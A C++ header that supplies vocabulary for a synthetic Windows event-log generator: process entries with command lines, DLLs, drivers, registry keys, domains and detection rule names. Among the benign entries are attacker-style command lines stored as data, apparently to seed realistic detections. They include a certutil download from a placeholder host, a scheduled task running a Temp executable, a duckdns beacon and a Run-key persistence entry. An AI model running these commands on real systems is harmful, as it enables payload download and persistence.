#pragma once

// The words the log generator draws from: executables, libraries, drivers, registry keys, domains.
// Texts are raw (not XML-escaped). Placeholders filled per host or per use:
//   %U user name, %S user SID, %R random token, %N random number, %G random GUID, %C host name.

#include <string_view>

namespace kelvane::genlog {

enum class Account { System, LocalService, NetworkService, User };
enum class ParentKind { Services, Explorer, Browser, Any };

struct ExeEntry {
    std::string_view path;
    std::string_view originalName; // empty: no version resource, shown as "?"
    std::string_view description;
    std::string_view product;
    std::string_view company;
    std::string_view version;
    std::string_view commandLine;
    Account account;
    ParentKind parent;
    int spawnWeight; // how often new processes of this image start
};

inline constexpr std::string_view kWinProduct = "Microsoft® Windows® Operating System";
inline constexpr std::string_view kMs = "Microsoft Corporation";
inline constexpr std::string_view kWinVer = "10.0.19041.1 (WinBuild.160101.0800)";
inline constexpr std::string_view kWinVer2 = "10.0.19041.1806 (WinBuild.160101.0800)";

// The first four are the long-lived processes that every host starts with and that emit most events.
inline constexpr ExeEntry kExes[] = {
    {R"(C:\Windows\System32\svchost.exe)", "svchost.exe", "Host Process for Windows Services", kWinProduct,
     kMs, kWinVer, R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule)", Account::System,
     ParentKind::Services, 6},
    {R"(C:\Windows\explorer.exe)", "EXPLORER.EXE", "Windows Explorer", kWinProduct, kMs, kWinVer2,
     R"(C:\Windows\Explorer.EXE)", Account::User, ParentKind::Any, 0},
    {R"(C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2205.7-0\MsMpEng.exe)", "MsMpEng.exe",
     "Antimalware Service Executable", kWinProduct, kMs, "4.18.2205.7 (WinBuild.160101.0800)",
     R"("C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2205.7-0\MsMpEng.exe")", Account::System,
     ParentKind::Services, 0},
    {R"(C:\Program Files\Google\Chrome\Application\chrome.exe)", "chrome.exe", "Google Chrome",
     "Google Chrome", "Google LLC", "103.0.5060.134",
     R"("C:\Program Files\Google\Chrome\Application\chrome.exe" )", Account::User, ParentKind::Explorer, 0},
    {R"(C:\Windows\System32\services.exe)", "services.exe", "Services and Controller app", kWinProduct, kMs,
     kWinVer, R"(C:\Windows\system32\services.exe)", Account::System, ParentKind::Any, 0},
    {R"(C:\Windows\System32\lsass.exe)", "lsass.exe", "Local Security Authority Process", kWinProduct, kMs,
     kWinVer2, R"(C:\Windows\system32\lsass.exe)", Account::System, ParentKind::Any, 0},
    {R"(C:\Windows\System32\svchost.exe)", "svchost.exe", "Host Process for Windows Services", kWinProduct,
     kMs, kWinVer, R"(C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp)",
     Account::LocalService, ParentKind::Services, 4},
    {R"(C:\Windows\System32\svchost.exe)", "svchost.exe", "Host Process for Windows Services", kWinProduct,
     kMs, kWinVer, R"(C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache)",
     Account::NetworkService, ParentKind::Services, 4},
    {R"(C:\Program Files\Google\Chrome\Application\chrome.exe)", "chrome.exe", "Google Chrome",
     "Google Chrome", "Google LLC", "103.0.5060.134",
     R"("C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=%N --time-ticks-at-unix-epoch=-1659355384547521 --launch-time-ticks=%N --mojo-platform-channel-handle=%N --field-trial-handle=1920,i,8174239361528893377,15830285620491178913,131072 /prefetch:1)",
     Account::User, ParentKind::Browser, 14},
    {R"(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe)", "msedge.exe", "Microsoft Edge",
     "Microsoft Edge", kMs, "103.0.1264.77",
     R"("C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=%N --field-trial-handle=2032,i,3361752040150011634,7014541217520497432,131072 /prefetch:3)",
     Account::User, ParentKind::Explorer, 6},
    {R"(C:\Windows\System32\cmd.exe)", "Cmd.Exe", "Windows Command Processor", kWinProduct, kMs, kWinVer,
     R"("C:\Windows\system32\cmd.exe" /c "ipconfig /all > "C:\Users\%U\AppData\Local\Temp\net_%R.txt" & type "C:\Users\%U\AppData\Local\Temp\net_%R.txt"")",
     Account::User, ParentKind::Explorer, 5},
    {R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "PowerShell.EXE", "Windows PowerShell",
     kWinProduct, kMs, kWinVer,
     R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -Command "Get-ChildItem 'C:\Users\%U\Documents' -Recurse | Where-Object { $_.Length -gt 1MB } | Select-Object FullName")",
     Account::User, ParentKind::Explorer, 4},
    {R"(C:\Windows\System32\conhost.exe)", "CONHOST.EXE", "Console Window Host", kWinProduct, kMs, kWinVer,
     R"(\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1)", Account::User, ParentKind::Any, 8},
    {R"(C:\Windows\System32\RuntimeBroker.exe)", "RuntimeBroker.exe", "Runtime Broker", kWinProduct, kMs,
     kWinVer, R"(C:\Windows\System32\RuntimeBroker.exe -Embedding)", Account::User, ParentKind::Services, 5},
    {R"(C:\Windows\System32\taskhostw.exe)", "taskhostw.exe", "Host Process for Windows Tasks", kWinProduct,
     kMs, kWinVer, R"(taskhostw.exe {%G})", Account::User, ParentKind::Services, 4},
    {R"(C:\Windows\System32\wbem\WmiPrvSE.exe)", "Wmiprvse.exe", "WMI Provider Host", kWinProduct, kMs,
     kWinVer, R"(C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding)", Account::NetworkService,
     ParentKind::Services, 4},
    {R"(C:\Windows\System32\SearchProtocolHost.exe)", "SearchProtocolHost.exe",
     "Microsoft Windows Search Protocol Host", kWinProduct, kMs, kWinVer2,
     R"x("C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe%N_ Global\UsGthrCtrlFltPipeMssGthrPipe%N 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon" )x",
     Account::System, ParentKind::Services, 4},
    {R"(C:\Windows\System32\backgroundTaskHost.exe)", "backgroundTaskHost.exe", "Background Task Host",
     kWinProduct, kMs, kWinVer,
     R"("C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider)",
     Account::User, ParentKind::Services, 4},
    {R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)", "WinWord.exe", "Microsoft Word",
     "Microsoft Office", kMs, "16.0.15427.20210",
     R"("C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\%U\Documents\Résumé %N.docx" /o "")",
     Account::User, ParentKind::Explorer, 2},
    {R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)", "Outlook.exe", "Microsoft Outlook",
     "Microsoft Office", kMs, "16.0.15427.20210",
     R"("C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" )", Account::User, ParentKind::Explorer,
     1},
    {R"(C:\Users\%U\AppData\Local\Microsoft\OneDrive\OneDrive.exe)", "OneDrive.exe", "Microsoft OneDrive",
     "Microsoft OneDrive", kMs, "22.131.0619.0001",
     R"("C:\Users\%U\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background)", Account::User,
     ParentKind::Explorer, 1},
    {R"(C:\Windows\System32\notepad.exe)", "NOTEPAD.EXE", "Notepad", kWinProduct, kMs, kWinVer,
     R"("C:\Windows\system32\NOTEPAD.EXE" C:\Users\%U\Desktop\notes_%R.txt)", Account::User,
     ParentKind::Explorer, 2},
    {R"(C:\Windows\System32\rundll32.exe)", "RUNDLL32.EXE", "Windows host process (Rundll32)", kWinProduct,
     kMs, kWinVer,
     R"(C:\Windows\system32\rundll32.exe C:\Windows\system32\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 WinX:0 WinY:0 IEFrame:0000000000000000)",
     Account::User, ParentKind::Any, 2},
    {R"(C:\Windows\System32\reg.exe)", "reg.exe", "Registry Console Tool", kWinProduct, kMs, kWinVer,
     R"(reg  query "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /s)", Account::User, ParentKind::Any,
     1},
    {R"(C:\Windows\System32\schtasks.exe)", "schtasks.exe", "Task Scheduler Configuration Tool", kWinProduct,
     kMs, kWinVer,
     R"(schtasks  /Create /SC ONCE /TN "Update %R" /TR "C:\Users\%U\AppData\Local\Temp\%R.exe" /ST 20:10 /F)",
     Account::User, ParentKind::Any, 1},
    {R"(C:\Windows\System32\whoami.exe)", "whoami.exe", "whoami - displays logged on user information",
     kWinProduct, kMs, kWinVer, R"(whoami  /all)", Account::User, ParentKind::Any, 1},
    {R"(C:\Windows\System32\msiexec.exe)", "msiexec.exe", "Windows® installer", kWinProduct, kMs,
     "5.0.19041.1806 (WinBuild.160101.0800)", R"(C:\Windows\system32\msiexec.exe /V)", Account::System,
     ParentKind::Services, 1},
    {R"(C:\Windows\System32\WerFault.exe)", "WerFault.exe", "Windows Problem Reporting", kWinProduct, kMs,
     kWinVer, R"(C:\Windows\system32\WerFault.exe -u -p %N -s 152)", Account::User, ParentKind::Any, 1},
    {R"(C:\Windows\System32\dllhost.exe)", "dllhost.exe", "COM Surrogate", kWinProduct, kMs, kWinVer,
     R"(C:\Windows\system32\DllHost.exe /Processid:{%G})", Account::User, ParentKind::Services, 4},
    {R"(C:\Windows\System32\smartscreen.exe)", "smartscreen.exe", "Windows Defender SmartScreen", kWinProduct,
     kMs, kWinVer2, R"(C:\Windows\System32\smartscreen.exe -Embedding)", Account::User, ParentKind::Services,
     2},
    {R"(C:\Program Files\Mozilla Firefox\firefox.exe)", "firefox.exe", "Firefox", "Firefox",
     "Mozilla Corporation", "102.0.1",
     R"("C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc --channel="%N.3.1183497513\%N" -childID 4 -isForBrowser -prefsHandle 4876 -prefMapHandle 4872 -prefsLen 20862 -prefMapSize 241778 -jsInitHandle 1020 -jsInitLen 246704 -parentBuildID 20220705093820 -appDir "C:\Program Files\Mozilla Firefox\browser" - 7364 "\\.\pipe\gecko-crash-server-pipe.7364" 5028 tab)",
     Account::User, ParentKind::Explorer, 3},
    {R"(C:\Users\%U\Downloads\setup_%R.exe)", "", "", "", "", "",
     R"("C:\Users\%U\Downloads\setup_%R.exe" /S)", Account::User, ParentKind::Explorer, 1},
    {R"(C:\Users\%U\AppData\Local\Temp\%R.exe)", "", "", "", "", "",
     R"(C:\Users\%U\AppData\Local\Temp\%R.exe -connect %R.duckdns.org:443 -k "a&b<c")", Account::User,
     ParentKind::Any, 1},
    {R"(C:\Windows\System32\certutil.exe)", "CertUtil.exe", "CertUtil.exe", kWinProduct, kMs, kWinVer,
     R"(certutil.exe -urlcache -split -f "http://update.example.net/get?id=%N&arch=x64&v=2" C:\Users\%U\AppData\Local\Temp\%R.tmp)",
     Account::User, ParentKind::Any, 1},
    {R"(C:\Windows\System32\wevtutil.exe)", "wevtutil.exe", "Eventing Command Line Utility", kWinProduct, kMs,
     kWinVer, R"(wevtutil.exe qe Microsoft-Windows-Sysmon/Operational /f:xml /c:1000)", Account::System,
     ParentKind::Any, 1},
    {R"(C:\Program Files\Notepad++\notepad++.exe)", "notepad++.exe", "Notepad++", "Notepad++",
     "Notepad++ Team", "8.4.4",
     R"("C:\Program Files\Notepad++\notepad++.exe" "C:\Users\%U\Documents\todo list.txt")", Account::User,
     ParentKind::Explorer, 1},
};
inline constexpr int kHotExes = 4;     // kExes[0..3]
inline constexpr int kInitialExes = 6; // plus services.exe and lsass.exe, which never end

struct DllEntry {
    std::string_view path;
    std::string_view originalName;
    std::string_view description;
};

inline constexpr DllEntry kDlls[] = {
    {R"(C:\Windows\System32\ntdll.dll)", "ntdll.dll", "NT Layer DLL"},
    {R"(C:\Windows\System32\kernel32.dll)", "kernel32", "Windows NT BASE API Client DLL"},
    {R"(C:\Windows\System32\KernelBase.dll)", "Kernelbase.dll", "Windows NT BASE API Client DLL"},
    {R"(C:\Windows\System32\advapi32.dll)", "advapi32.dll", "Advanced Windows 32 Base API"},
    {R"(C:\Windows\System32\msvcrt.dll)", "msvcrt.dll", "Windows NT CRT DLL"},
    {R"(C:\Windows\System32\sechost.dll)", "sechost.dll", "Host for SCM/SDDL/LSA Lookup APIs"},
    {R"(C:\Windows\System32\rpcrt4.dll)", "rpcrt4.dll", "Remote Procedure Call Runtime"},
    {R"(C:\Windows\System32\combase.dll)", "COMBASE.DLL", "Microsoft COM for Windows"},
    {R"(C:\Windows\System32\ucrtbase.dll)", "ucrtbase.dll", "Microsoft® C Runtime Library"},
    {R"(C:\Windows\System32\user32.dll)", "user32", "Multi-User Windows USER API Client DLL"},
    {R"(C:\Windows\System32\win32u.dll)", "Win32u.dll", "Win32u"},
    {R"(C:\Windows\System32\gdi32.dll)", "gdi32", "GDI Client DLL"},
    {R"(C:\Windows\System32\gdi32full.dll)", "gdi32full", "GDI Client DLL"},
    {R"(C:\Windows\System32\msvcp_win.dll)", "msvcp_win.dll", "Microsoft® C Runtime Library"},
    {R"(C:\Windows\System32\imm32.dll)", "imm32", "Multi-User Windows IMM32 API Client DLL"},
    {R"(C:\Windows\System32\shell32.dll)", "SHELL32.DLL", "Windows Shell Common Dll"},
    {R"(C:\Windows\System32\shlwapi.dll)", "SHLWAPI.DLL", "Shell Light-weight Utility Library"},
    {R"(C:\Windows\System32\ole32.dll)", "OLE32.DLL", "Microsoft OLE for Windows"},
    {R"(C:\Windows\System32\oleaut32.dll)", "OLEAUT32.DLL", "OLEAUT32.DLL"},
    {R"(C:\Windows\System32\ws2_32.dll)", "ws2_32.dll", "Windows Socket 2.0 32-Bit DLL"},
    {R"(C:\Windows\System32\crypt32.dll)", "CRYPT32.DLL", "Crypto API32"},
    {R"(C:\Windows\System32\bcrypt.dll)", "BCrypt.dll", "Windows Cryptographic Primitives Library"},
    {R"(C:\Windows\System32\bcryptprimitives.dll)", "bcryptprimitives.dll",
     "Windows Cryptographic Primitives Library"},
    {R"(C:\Windows\System32\cryptbase.dll)", "cryptbase", "Base cryptographic API DLL"},
    {R"(C:\Windows\System32\wintrust.dll)", "WINTRUST.DLL", "Microsoft Trust Verification APIs"},
    {R"(C:\Windows\System32\windows.storage.dll)", "Windows.Storage.dll", "Microsoft WinRT Storage API"},
    {R"(C:\Windows\System32\wldp.dll)", "wldp.dll", "Windows Lockdown Policy"},
    {R"(C:\Windows\System32\profapi.dll)", "profapi.dll", "User Profile Basic API"},
    {R"(C:\Windows\System32\powrprof.dll)", "POWRPROF.DLL", "Power Profile Helper DLL"},
    {R"(C:\Windows\System32\uxtheme.dll)", "UxTheme.dll", "Microsoft UxTheme Library"},
    {R"(C:\Windows\System32\dwmapi.dll)", "dwmapi.dll", "Microsoft Desktop Window Manager API"},
    {R"(C:\Windows\System32\mswsock.dll)", "mswsock.dll", "Microsoft Windows Sockets 2.0 Service Provider"},
    {R"(C:\Windows\System32\dnsapi.dll)", "dnsapi", "DNS Client API DLL"},
    {R"(C:\Windows\System32\IPHLPAPI.DLL)", "iphlpapi.dll", "IP Helper API"},
    {R"(C:\Windows\System32\winhttp.dll)", "winhttp.dll", "Windows HTTP Services"},
    {R"(C:\Windows\System32\wininet.dll)", "wininet.dll", "Internet Extensions for Win32"},
    {R"(C:\Windows\System32\netapi32.dll)", "netapi32.dll", "Net Win32 API DLL"},
    {R"(C:\Windows\System32\samcli.dll)", "samcli.dll", "Security Accounts Manager Client DLL"},
    {R"(C:\Windows\System32\clbcatq.dll)", "CLBCatQ.DLL", "COM+ Configuration Catalog"},
    {R"(C:\Windows\System32\propsys.dll)", "propsys.dll", "Microsoft Property System"},
    {R"(C:\Windows\System32\linkinfo.dll)", "LINKINFO.DLL", "Windows Volume Tracking"},
    {R"(C:\Windows\System32\amsi.dll)", "AMSI.DLL", "Anti-Malware Scan Interface"},
    {R"(C:\Windows\System32\wbem\wbemprox.dll)", "wbemprox.dll", "WMI"},
    {R"(C:\Windows\System32\wbem\fastprox.dll)", "fastprox.dll", "WMI Custom Marshaller"},
    {R"(C:\Windows\System32\taskschd.dll)", "taskschd.dll", "Task Scheduler COM API"},
    {R"(C:\Windows\System32\vaultcli.dll)", "vaultcli.dll", "Credential Vault Client Library"},
    {R"(C:\Windows\System32\dbghelp.dll)", "DBGHELP.DLL", "Windows Image Helper"},
    {R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll)", "clr.dll",
     "Microsoft .NET Runtime Common Language Runtime - WorkStation"},
    {R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\mscoreei.dll)", "mscoreei.dll",
     "Microsoft .NET Runtime Execution Engine"},
    {R"(C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Management.A#\6b4d3ec47b27a0e4fb2c73a1a8a2a7be\System.Management.Automation.ni.dll)",
     "System.Management.Automation.dll", "System.Management.Automation"},
};

struct DriverEntry {
    std::string_view path;
    std::string_view signature;
};

inline constexpr DriverEntry kDrivers[] = {
    {R"(C:\Windows\System32\drivers\tcpip.sys)", "Microsoft Windows"},
    {R"(C:\Windows\System32\drivers\ndis.sys)", "Microsoft Windows"},
    {R"(C:\Windows\System32\drivers\WdFilter.sys)", "Microsoft Windows"},
    {R"(C:\Windows\System32\drivers\usbstor.sys)", "Microsoft Windows"},
    {R"(C:\Windows\System32\DriverStore\FileRepository\nv_dispi.inf_amd64_9c1b8c55e1b6e2f1\nvlddmkm.sys)",
     "NVIDIA Corporation"},
    {R"(C:\Windows\System32\drivers\VBoxSF.sys)", "Oracle Corporation"},
    {R"(C:\Windows\Temp\RwDrv.sys)", "주식회사 엘리시온랩"},
};

enum class RegValue { Dword, Qword, Binary, Path, Address, Empty };

struct RegEntry {
    std::string_view key;
    RegValue value;
};

inline constexpr RegEntry kRegKeys[] = {
    {R"(HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\%S\\Device\HarddiskVolume3\Windows\System32\svchost.exe)",
     RegValue::Binary},
    {R"(HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater%R)", RegValue::Path},
    {R"(HKU\%S\Software\Microsoft\Windows\CurrentVersion\Run\OneDrive)", RegValue::Path},
    {R"(HKU\%S\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx\%N)", RegValue::Binary},
    {R"(HKU\%S\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ZoneMap\ProxyBypass)",
     RegValue::Dword},
    {R"(HKU\%S\Software\Microsoft\Windows\CurrentVersion\Internet Settings\ZoneMap\IntranetName)",
     RegValue::Dword},
    {R"(HKLM\System\CurrentControlSet\Services\W32Time\Config\LastKnownGoodTime)", RegValue::Qword},
    {R"(HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated)", RegValue::Binary},
    {R"(HKU\%S_Classes\Local Settings\Software\Microsoft\Windows\Shell\BagMRU\%N\NodeSlot)", RegValue::Dword},
    {R"(HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\Update %R\Index)",
     RegValue::Dword},
    {R"(HKLM\System\CurrentControlSet\Services\Tcpip\Parameters\Interfaces\{%G}\DhcpIPAddress)",
     RegValue::Address},
    {R"(HKLM\System\CurrentControlSet\Services\Tcpip\Parameters\Interfaces\{%G}\LeaseObtainedTime)",
     RegValue::Dword},
    {R"(HKU\%S\Software\Microsoft\Office\16.0\Word\Reading Locations\Document %N\File Path)", RegValue::Path},
    {R"(HKLM\SOFTWARE\Microsoft\SystemCertificates\ROOT\Certificates\%R\Blob)", RegValue::Binary},
    {R"(HKLM\System\CurrentControlSet\Services\%R\ImagePath)", RegValue::Path},
    {R"(HKLM\System\CurrentControlSet\Services\%R\Start)", RegValue::Dword},
    {R"(HKU\%S\Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\Count\HRZR_PGYFRFFVBA)",
     RegValue::Binary},
    {R"(HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\WINEVT\Publishers\{%G}\ResourceFileName)",
     RegValue::Empty},
    {R"(HKU\.DEFAULT\Software\Microsoft\Windows\CurrentVersion\Internet Settings\Connections\DefaultConnectionSettings)",
     RegValue::Binary},
};

// Names resolved over DNS and reached over the network; connections to them reuse the addresses DNS gave.
inline constexpr std::string_view kDomains[] = {
    "www.google.com",
    "clients2.google.com",
    "update.googleapis.com",
    "accounts.google.com",
    "login.microsoftonline.com",
    "settings-win.data.microsoft.com",
    "v10.events.data.microsoft.com",
    "edge.microsoft.com",
    "teams.microsoft.com",
    "outlook.office365.com",
    "officeclient.microsoft.com",
    "ctldl.windowsupdate.com",
    "fe3cr.delivery.mp.microsoft.com",
    "wdcp.microsoft.com",
    "go.microsoft.com",
    "ocsp.digicert.com",
    "crl.globalsign.com",
    "github.com",
    "objects.githubusercontent.com",
    "www.wikipedia.org",
    "cdn.jsdelivr.net",
    "fonts.gstatic.com",
    "update.example.net",
    "files.example.org",
    "wpad",
    "dc01.corp.example.com",
    "fileserver.corp.example.com",
    "_ldap._tcp.dc._msdcs.corp.example.com",
    "isatap",
    "%R.duckdns.org",
};

inline constexpr std::string_view kPublicPrefixes[] = {
    "13.107.",  "13.224.",  "20.42.",   "20.189.",  "23.35.",   "34.117.", "35.186.",  "40.126.",
    "52.114.",  "52.168.",  "54.239.",  "104.16.",  "104.18.",  "140.82.", "142.250.", "151.101.",
    "157.240.", "172.217.", "185.199.", "192.229.", "199.232.", "204.79.", "8.8.",     "95.101.",
};

inline constexpr std::string_view kUserNames[] = {"IEUser",     "alice.moreau", "jdoe",     "Björn.Lund",
                                                  "svc_backup", "m.tanaka",     "admin.ops"};

inline constexpr std::string_view kFileTargets[] = {
    R"(C:\Users\%U\AppData\Local\Temp\%R.tmp)",
    R"(C:\Users\%U\AppData\Local\Temp\__PSScriptPolicyTest_%R.ps1)",
    R"(C:\Windows\Prefetch\CHROME.EXE-%R.pf)",
    R"(C:\Users\%U\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_%N)",
    R"(C:\Users\%U\AppData\Local\Microsoft\Windows\INetCache\IE\%R\jquery.min[1].js)",
    R"(C:\Users\%U\Downloads\invoice_%N.pdf)",
    R"(C:\Users\%U\Downloads\setup_%R.exe)",
    R"(C:\Users\%U\Documents\Résumé %N.docx)",
    R"(C:\Users\%U\Documents\notes 📝 %N.txt)",
    R"(C:\Users\%U\AppData\Roaming\Microsoft\Windows\Recent\%R.lnk)",
    R"(C:\ProgramData\Microsoft\Windows Defender\Scans\History\Service\DetectionHistory\%R)",
    R"(C:\Windows\ServiceProfiles\LocalService\AppData\Local\lastalive%N.dat)",
    R"(C:\Windows\System32\Tasks\Update %R)",
    R"(C:\Windows\Temp\%R.log)",
};

inline constexpr std::string_view kRuleNames[] = {
    "technique_id=T1055,technique_name=Process Injection",
    "technique_id=T1112,technique_name=Modify Registry",
    "technique_id=T1547.001,technique_name=Registry Run Keys / Start Folder",
    "technique_id=T1003,technique_name=Credential Dumping",
    "Execution - Image Loaded from suspicious path",
    "Persistence - COM Hijack",
    "Suspicious NetCon",
};

inline constexpr std::string_view kPipes[] = {
    R"(\srvsvc)",
    R"(\lsarpc)",
    R"(\wkssvc)",
    R"(\samr)",
    R"(\PSHost.%N.%N.DefaultAppDomain.powershell)",
    R"(\mojo.%N.%N.%N)",
    R"(\Winsock2\CatalogChangeListener-%R-0)",
    R"(\chrome.sync.%N.%N.%N)",
    "<Anonymous Pipe>",
    R"(\LOCAL\crashpad_%N_%R)",
};

struct Port {
    int number;
    std::string_view name;
};

inline constexpr Port kPorts[] = {
    {443, "https"},      {443, "https"},          {443, "https"}, {80, "http"},
    {53, "domain"},      {445, "microsoft-ds"},   {135, "epmap"}, {389, "ldap"},
    {88, "kerberos"},    {3389, "ms-wbt-server"}, {5985, ""},     {8080, "http-alt"},
    {137, "netbios-ns"}, {5355, "llmnr"},         {1900, "ssdp"}};

} // namespace kelvane::genlog
